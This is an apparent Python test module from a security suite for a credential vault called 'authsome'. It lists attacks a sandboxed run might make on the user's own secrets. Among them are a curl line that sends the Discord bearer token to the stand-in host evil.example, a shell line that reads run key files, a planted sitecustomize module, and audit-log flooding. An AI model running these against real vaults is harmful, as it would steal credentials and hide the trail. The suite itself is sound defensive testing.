"""Attacks with the user's own programs: `authsome` itself, asked for a secret from inside of a run."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path

from tests.e2e.hostile import DISCORD, absolute
from tests.hostile.machine import files
from tests.isolation.attacks import VAULT

AUTHSOME = str(VAULT.parent / ".local/bin/authsome")
EVIL = "https://evil.example/standin/echo"


def ask(*arguments: str, removed: tuple[str, ...] = (), extra: Mapping[str, str] | None = None) -> bytes:
    """What a command of `authsome` prints, where it succeeds."""
    environ = {name: value for name, value in os.environ.items() if name not in removed}
    done = subprocess.run(
        [AUTHSOME, *arguments],
        env=environ | dict(extra or {}),
        capture_output=True,
        timeout=60,
        check=False,
        stdin=subprocess.DEVNULL,
    )
    return done.stdout or b"done" if done.returncode == 0 else b""


def export() -> bytes:
    return ask("export", "discord")


def export_without_mark() -> bytes:
    """Without the variable that says that this is a run."""
    return ask("export", "discord", removed=("AUTHSOME_RUN",))


def show_connection() -> bytes:
    return ask("get", "discord", "--json")


def back_up_vault() -> bytes:
    got = ask("vault", "backup", "backup.db")
    if got:
        os.unlink("backup.db")
    return got


def key_of_vault() -> bytes:
    return ask("vault", "key", "--json")


def other_profile() -> bytes:
    return ask("export", "discord", removed=("AUTHSOME_RUN",), extra={"AUTHSOME_PROFILE": "other"})


def nested_run() -> bytes:
    """A run in a run, without isolation: its child is no better off."""
    script = 'printf %s "$DISCORD_ACCESS_TOKEN"; cat ~/.authsome/runs/*/*.key'
    got = ask("run", "--no-sandbox", "--", "sh", "-c", f"{script}; true")
    return b"" if got in (b"authsome-proxy-managed", b"done") else got


def modules_beside() -> bytes:
    """What Python would import in a command of the user's, were it told to look here."""
    folder = Path("beside").absolute()
    folder.mkdir()
    try:
        for name in ("launcher", "sitecustomize"):
            (folder / f"{name}.py").write_text("open(__file__ + '.ran', 'w').close()\n")
        ask("list", extra={"PYTHONPATH": str(folder)})
        return b"ran" if any(folder.glob("*.ran")) else b""
    finally:
        shutil.rmtree(folder)


def forged_provider() -> bytes:
    """A definition of the attacker's beside the user's vault: the token may go to one more host."""
    return _forged("forged_provider")


def agreed_provider() -> bytes:
    """The same, agreed to in the user's name: no more is needed to read the vault itself."""
    return _forged("agreed_provider", agreed=True)


def _forged(name: str, *, agreed: bool = False) -> bytes:
    forged = Path("forged")
    shutil.copytree(VAULT, forged, ignore=shutil.ignore_patterns("runs", "audit"))
    try:
        provider = json.loads(ask("inspect", "discord"))
        provider["proxy"]["hosts"].append("evil.example")
        (forged / "providers").mkdir(mode=0o700, exist_ok=True)
        (forged / "providers/discord.json").write_text(json.dumps(provider))
        (forged / "providers/discord.json").chmod(0o600)
        script = f'curl -s -H "X-Attack: {name}" -H "Authorization: Bearer $DISCORD_ACCESS_TOKEN" {EVIL}'
        home = {"AUTHSOME_HOME": str(forged.absolute()), "AUTHSOME_CONNECT_TO": os.environ["ROUTES"]}
        roots = {"SSL_CERT_FILE": os.environ["ROOTS"]}
        if agreed:
            ask("confirm", "discord", "--yes", removed=("AUTHSOME_RUN",), extra=home)
        return ask(
            "run", "--provider", "discord", "--no-sandbox", "--", "sh", "-c", script, extra=home | roots
        )
    except ValueError:
        return b""  # there is no definition to begin with
    finally:
        shutil.rmtree(forged)


def moved_home() -> bytes:
    """A copy of what is left of the vault, under another name."""
    shutil.copytree(VAULT, "moved", ignore=shutil.ignore_patterns("runs"))
    try:
        return files(Path("moved"))
    finally:
        shutil.rmtree("moved")


def flooded_audit() -> bytes:
    """More refused requests than a run has lines for, to push out what it and others did before."""
    if os.environ["LEVEL"] != "none":
        return b"absent"  # the audit cannot be read from here, so that nothing could be told
    for _ in range(2300):
        absolute(f"http://{DISCORD}/x", DISCORD)
    lines = ask("audit", "--json", "--limit", "0").decode().splitlines()
    mine = [line for line in lines if json.loads(line)["run"] == os.environ["AUTHSOME_RUN"]]
    return b"\n".join(line.encode() for line in mine[-9:]) if len(mine) > 2100 else b""


ATTACKS: tuple[Callable[[], bytes], ...] = (
    export,
    export_without_mark,
    show_connection,
    back_up_vault,
    key_of_vault,
    other_profile,
    nested_run,
    modules_beside,
    forged_provider,
    agreed_provider,
    moved_home,
    flooded_audit,
)
